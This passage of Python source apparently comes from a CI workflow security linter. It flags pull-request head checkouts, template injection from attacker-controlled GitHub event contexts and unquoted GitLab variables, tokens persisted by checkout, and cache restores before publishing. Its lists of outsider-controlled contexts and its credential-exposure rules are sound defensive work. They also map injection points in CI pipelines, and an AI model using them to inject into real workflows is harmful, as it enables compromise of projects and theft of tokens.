                    if isinstance(value, str) and _names_head(value):
                        return f"{job.label} {step.label}"
            for command in commands(step.run or ""):
                positional = command.positional()
                if command.program == "gh" and positional[:2] == ("pr", "checkout"):
                    return f"{job.label} {step.label}"
                if (
                    command.program == "git"
                    and positional[:1] in {("fetch",), ("checkout",), ("switch",)}
                    and any("pull/" in arg or _names_head(arg) for arg in positional[1:])
                ):
                    return f"{job.label} {step.label}"
    return None


def _names_head(value: str) -> bool:
    if "refs/pull/" in value:
        return True
    for _, expression in expressions(value):
        for context in expression_contexts(expression):
            if context.startswith(_UNTRUSTED_HEAD):
                return True
    return False


#: Contexts whose text someone outside the project controls
#: (https://securitylab.github.com/resources/github-actions-untrusted-input/); ``*``
#: stands for one key or index.
_ATTACKER_CONTEXTS = tuple(
    tuple(pattern.split("."))
    for pattern in (
        "github.event.issue.title",
        "github.event.issue.body",
        "github.event.pull_request.title",
        "github.event.pull_request.body",
        "github.event.pull_request.head.ref",
        "github.event.pull_request.head.label",
        "github.event.pull_request.head.repo.default_branch",
        "github.event.comment.body",
        "github.event.review.body",
        "github.event.review_comment.body",
        "github.event.discussion.title",
        "github.event.discussion.body",
        "github.event.pages.*.page_name",
        "github.event.head_commit.message",
        "github.event.head_commit.author.email",
        "github.event.head_commit.author.name",
        "github.event.commits.*.message",
        "github.event.commits.*.author.email",
        "github.event.commits.*.author.name",
        "github.event.workflow_run.head_branch",
        "github.event.workflow_run.head_commit.message",
        "github.event.workflow_run.head_commit.author.email",
        "github.event.workflow_run.head_commit.author.name",
        "github.event.workflow_run.display_title",
        "github.event.workflow_run.pull_requests.*.head.ref",
        "github.head_ref",
    )
)
_INPUT_CONTEXTS = (("inputs",), ("github", "event", "inputs"))


def _context_kind(context: str) -> str | None:
    """``attacker``, ``input`` or ``None`` (not known to be controlled from outside)."""
    parts = tuple(context.split("."))
    for pattern in _ATTACKER_CONTEXTS:
        # A path below the pattern (``...title``) or above it (``toJSON(github.event)``
        # serialises the title too): they agree as far as the shorter goes.
        if all(a == b or "*" in (a, b) for a, b in zip(parts, pattern, strict=False)):
            return "attacker"
    if any(
        parts[: len(prefix)] == prefix and len(parts) > len(prefix) for prefix in _INPUT_CONTEXTS
    ):
        return "input"
    return None


def _github_injection(workflow: Workflow) -> Iterator[Hit]:
    for job in workflow.jobs:
        for step in job.steps:
            if step.run is not None:
                yield from _injections(
                    workflow, job, step, (*step.path, "run"), text=step.run, where="run:"
                )
            if step.action == "actions/github-script":
                script = step.with_.get("script")
                if isinstance(script, str):
                    path = (*step.path, "with", "script")
                    yield from _injections(
                        workflow, job, step, path, text=script, where="github-script"
                    )


def _injections(
    workflow: Workflow, job: Job, step: Step, path: tuple[Key, ...], *, text: str, where: str
) -> Iterator[Hit]:
    reported: set[str] = set()
    for offset, expression in expressions(text):
        for context in expression_contexts(expression):
            kind = _context_kind(context)
            if kind is None or context in reported:
                continue
            reported.add(context)
            line = workflow.doc.text_line(path, text.count("\n", 0, offset))
            who = (
                "which anyone who opens an issue or pull request controls"
                if kind == "attacker"
                else "a workflow input"
            )
            yield _hit(
                workflow,
                "template-injection",
                f"${{{{ {context} }}}} is expanded into the {where} script of "
                f"{job.label} {step.label}, {who}",
                path,
                f"{job.label} {step.label} {context}",
                line=line,
                severity="high" if kind == "attacker" else "low",
                confidence="high" if kind == "attacker" else "medium",
            )


#: GitLab predefined variables whose text a contributor chooses
#: (https://docs.gitlab.com/ci/variables/predefined_variables/).
_GITLAB_UNTRUSTED = frozenset(
    {
        "CI_COMMIT_MESSAGE",
        "CI_COMMIT_TITLE",
        "CI_COMMIT_DESCRIPTION",
        "CI_COMMIT_TAG_MESSAGE",
        "CI_COMMIT_AUTHOR",
        "CI_COMMIT_BRANCH",
        "CI_COMMIT_REF_NAME",
        "CI_MERGE_REQUEST_TITLE",
        "CI_MERGE_REQUEST_DESCRIPTION",
        "CI_MERGE_REQUEST_SOURCE_BRANCH_NAME",
        "CI_EXTERNAL_PULL_REQUEST_SOURCE_BRANCH_NAME",
    }
)


def _gitlab_injection(workflow: Workflow) -> Iterator[Hit]:
    for job in workflow.jobs:
        for step in job.steps:
            for name in _unquoted_variables(step.run or ""):
                if name not in _GITLAB_UNTRUSTED:
                    continue
                yield _hit(
                    workflow,
                    "template-injection",
                    f"${name} is used unquoted in a script line of {job.label}: "
                    "its words are split and can become options or arguments",
                    step.path,
                    f"{job.label} {step.label} {name}",
                    severity="low",
                    confidence="low",
                )


def _unquoted_variables(line: str) -> Iterator[str]:
    """Names of ``$NAME`` / ``${NAME}`` expansions outside quotes in a shell line."""
    quote: str | None = None
    index = 0
    while index < len(line):
        char = line[index]
        if char == "\\" and quote != "'":
            index += 2
            continue
        if quote is None and char in "'\"":
            quote = char
        elif char == quote:
            quote = None
        elif char == "$" and quote is None:
            match = re.match(r"\$(?:\{([A-Za-z_]\w*)\}|([A-Za-z_]\w*))", line[index:])
            if match:
                yield match.group(1) or match.group(2)
                index += match.end()
                continue
        index += 1


def _persist_credentials(workflow: Workflow) -> Iterator[Hit]:
    for job in workflow.jobs:
        for step in job.steps:
            if step.action != _CHECKOUT or "persist-credentials" in step.with_:
                continue
            major = _major(step.ref)
            yield _hit(
                workflow,
                "persist-credentials",
                f"{step.uses} in {job.label} keeps the job's token in the git configuration "
                "(no persist-credentials: false)",
                (*step.path, "uses"),
                f"{job.label} {step.label}",
                severity="low" if major is not None and major >= 6 else "medium",
            )


def _major(ref: str | None) -> int | None:
    match = re.fullmatch(r"v?(\d+)(?:\.\d+)*", ref or "")
    return int(match.group(1)) if match else None


#: Inputs that turn a cache off when false, per action; ``None``: the action always
#: restores.
_CACHE_INPUTS: Mapping[str, tuple[str, bool] | None] = {
    # (input, whether the cache is on when the input is absent)
    "actions/cache": None,
    "actions/cache/restore": None,
    "actions/setup-python": ("cache", False),
    "actions/setup-node": ("cache", False),
    "actions/setup-java": ("cache", False),
    "astral-sh/setup-uv": ("enable-cache", True),
    "pyo3/maturin-action": ("sccache", False),
    "prefix-dev/setup-pixi": ("cache", False),
    "swatinem/rust-cache": ("lookup-only", True),
    "mozilla-actions/sccache-action": None,
}
_CONDITIONAL = re.compile(r"github\s*\.\s*(?:ref|event_name)", re.IGNORECASE)


def _cache_in_release(publishing: _Publishing) -> Iterator[Hit]:
    workflow = publishing.workflow
    if not publishing.jobs:
        return
    for job in publishing.upstream():
        for step in job.steps:
            action = step.action
            if action is None or action not in _CACHE_INPUTS:
                continue
            if _CONDITIONAL.search(step.if_ or ""):
                continue
            spec = _CACHE_INPUTS[action]
            path: tuple[Key, ...] = (*step.path, "uses")
            confidence: Confidence = "high"
            if spec is not None:
                name, default_on = spec
                value = step.with_.get(name)
                if action == "swatinem/rust-cache":
                    if _truthy(value) or (isinstance(value, str) and _CONDITIONAL.search(value)):
                        continue  # lookup-only: restores nothing
                elif value is None:
                    if not default_on or (action == "astral-sh/setup-uv" and _old_setup_uv(step)):
                        continue
                    confidence = "medium"  # on by default, on GitHub-hosted runners
                elif isinstance(value, str) and _CONDITIONAL.search(value):
                    continue  # turned off for tags/releases by an expression
                elif not _truthy(value):
                    continue
                else:
                    path = (*step.path, "with", name)
            yield _hit(
                workflow,
                "cache-in-release",
                f"{step.uses} restores a cache in {job.label}, on the way to publishing in "
                f"{', '.join(publishing.jobs)}",
                path,
                f"{job.label} {step.label}",
                confidence=confidence,
            )


def _truthy(value: Any) -> bool:
    if isinstance(value, str):
        return value.strip().lower() not in {"", "false", "0", "no", "off"}
    return bool(value)


def _old_setup_uv(step: Step) -> bool:
    """setup-uv before v5 left the cache off unless asked."""
    major = _major(step.ref)
    return major is not None and major < 5
